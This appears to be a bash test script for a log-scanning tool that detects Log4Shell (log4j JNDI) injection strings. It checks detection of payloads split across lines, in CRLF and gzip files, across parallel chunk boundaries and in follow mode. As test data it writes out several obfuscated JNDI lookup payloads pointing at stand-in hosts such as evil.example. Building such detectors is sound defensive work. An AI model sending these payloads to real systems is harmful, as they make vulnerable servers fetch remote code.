#!/usr/bin/env bash
# logs_multiline.sh -- an event split over lines by a line feed inside the
# message (issue 9, item 8).  ${jn${<LF>:-}di:ldap://evil.example/a} made
# real log4j 2.14.1 request ldap://evil.example/a (the inner ${\n:-} is ""),
# but each log line was scanned alone and nothing was found.  A line with a
# "${" left open is now scanned joined with the following line(s), bounded;
# the finding is reported once, at the line where it starts, and --json
# gives its end_line.  Checked: LF and CRLF, a carry across a --jobs 2 chunk
# boundary, gzip and stdin, a "${" that never closes (later payloads still
# found, no duplicates), and --follow with the two halves written apart.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
pre='192.0.2.7 - - [10/Dec/2021:13:00:00 +0000] "GET /'
printf 'one\ntwo\n%suser=${jn${\n:-}di:ldap://evil.example/a} HTTP/1.1" 404 0\nafter\n' "$pre" > lf.log
printf 'one\r\ntwo\r\n%suser=${jn${\r\n:-}di:ldap://crlf.example/a} HTTP/1.1" 404 0\r\nafter\r\n' "$pre" > crlf.log

# run FILE [options]: JSON findings -> hits.txt as "line end_line kind host"
run() {
    local f=$1; shift
    "$DEFUSE" logs --json "$@" "$f" > out.json 2> err.txt
    RC=$?
    python3 -c '
import json, re
for l in open("out.json"):
    r = json.loads(l)
    m = re.search(r"//([^/]*)\.example/", r.get("callback") or "")
    print(r["line"], r.get("end_line", r["line"]), r["kind"], m.group(1) if m else "-")
' | sort -n > hits.txt
}
want() { printf '%s\n' "$@" | sort -n > want.txt; }
same() { if cmp -s hits.txt want.txt; then ok "$1"; else fail "$1: got"; sed 's/^/    /' hits.txt >&2; echo "  want" >&2; sed 's/^/    /' want.txt >&2; fi; }

run lf.log
expect_rc 1 "$RC" "LF-split payload: exit 1"
want "3 4 jndi evil"; same "LF-split payload found once, at its first line, end_line 4"
python3 -c '
import json; r = json.loads(open("out.json").readline())
assert r["callback"] == "ldap://evil.example/a", r["callback"]
assert "\n" in r["payload"], r["payload"]' && ok "callback joined, payload spans the line feed" || fail "callback/payload: $(cat out.json)"
"$DEFUSE" logs lf.log > out.txt; expect_grep "lf.log:3: jndi ldap[:]//evil[.]example/a" out.txt "human output: file:line of the start"
run crlf.log
want "3 4 jndi crlf"; same "CRLF-split payload"
gzip -c lf.log > lf.log.gz; run lf.log.gz
want "3 4 jndi evil"; same "gzip"
"$DEFUSE" logs --json - < lf.log > out.json; python3 -c '
import json; r=[json.loads(l) for l in open("out.json")]
assert len(r) == 1 and r[0]["line"] == 3 and r[0]["end_line"] == 4, r' && ok "stdin" || fail "stdin: $(cat out.json)"

# a "${" that never closes, then many lines, a separate payload and a
# later split payload: both found, each once
python3 - <<'PY'
pre = '192.0.2.7 - - [10/Dec/2021:13:00:00 +0000] "GET /'
L = ["start", pre + 'q=${never closes HTTP/1.1" 200 0']           # line 2
L += ["normal %d" % i for i in range(3, 13)]                       # 3..12
L += [pre + '${jndi:ldap://single.example/a} HTTP/1.1" 404 0']     # 13
L += ["normal %d" % i for i in range(14, 20)]                      # 14..19
L += [pre + 'u=${${lower:j}ndi:${', ':-}ldap://later.example/a}"']  # 20-21
L += ["tail %d" % i for i in range(22, 30)]
open("never.log", "w").write("\n".join(L) + "\n")
# many unclosed "${" in a row (the bound keeps this linear)
open("many.log", "w").write("".join("x ${a%d\n" % i for i in range(20000)) + "${jndi:ldap://end.example/a}\n")
PY
run never.log
# (line 20 alone still gives its own ${lower:j} lookup: the lines of a window
# keep their findings, the window adds what spans lines)
want "13 13 jndi single" "20 20 lookup -" "20 21 jndi later"; same "never-closing \${: later payloads found once each"
run many.log --jobs 1
want "20001 20001 jndi end"; same "20,000 unclosed \${ lines then a payload"

# a carry across a --jobs 2 chunk boundary: the opener is the last line of
# the first 16 MiB chunk (chunks end at the first newline after 16 MiB)
python3 - <<'PY'
pre = '192.0.2.7 - - [10/Dec/2021:13:00:00 +0000] "GET /'
filler = '192.0.2.8 - - [10/Dec/2021:12:00:00 +0000] "GET /static/a.css HTTP/1.1" 200 1234 "-" "Mozilla/5.0"\n'
chunk = 16 * 1024 * 1024
with open("big.log", "w") as f:
    n = size = 0
    while size + len(filler) < chunk - 40:
        f.write(filler); size += len(filler); n += 1
    pad = chunk - 30 - size - 1
    f.write("p" * pad + "\n"); size += pad + 1; n += 1
    f.write(pre + 'user=${jn${\n'); n += 1        # straddles offset 16 MiB
    open("big.want", "w").write("%d %d jndi chunk\n" % (n, n + 1))
    assert size < chunk < size + len(pre) + 12
    f.write(':-}di:ldap://chunk.example/a} HTTP/1.1" 404 0\n')
    size = f.tell()
    while size < 34 * 1024 * 1024:
        f.write(filler); size += len(filler)
PY
cp big.want want.txt
run big.log --jobs 2; same "carry across a --jobs 2 chunk boundary"
run big.log --jobs 1; same "same with --jobs 1"

# --follow: the two halves written in two writes
: > f.log
timeout 30 "$DEFUSE" logs --json --follow f.log > out.json 2> err.txt &
PID=$!; PIDS+=("$PID")
sleep 0.5
printf 'a\n%suser=${jn${\n' "$pre" >> f.log
sleep 0.4
printf ':-}di:ldap://follow.example/a} HTTP/1.1" 404 0\nb\n' >> f.log
for i in $(seq 1 100); do grep -q follow out.json && break; sleep 0.05; done
sleep 0.3
stop_follow TERM "$PID"
python3 -c '
import json; r=[json.loads(l) for l in open("out.json")]
assert len(r) == 1 and r[0]["line"] == 2 and r[0]["end_line"] == 3 and "follow.example" in r[0]["callback"], r' \
    && ok "--follow: split written in two writes found once" || fail "--follow: $(cat out.json)"
finish
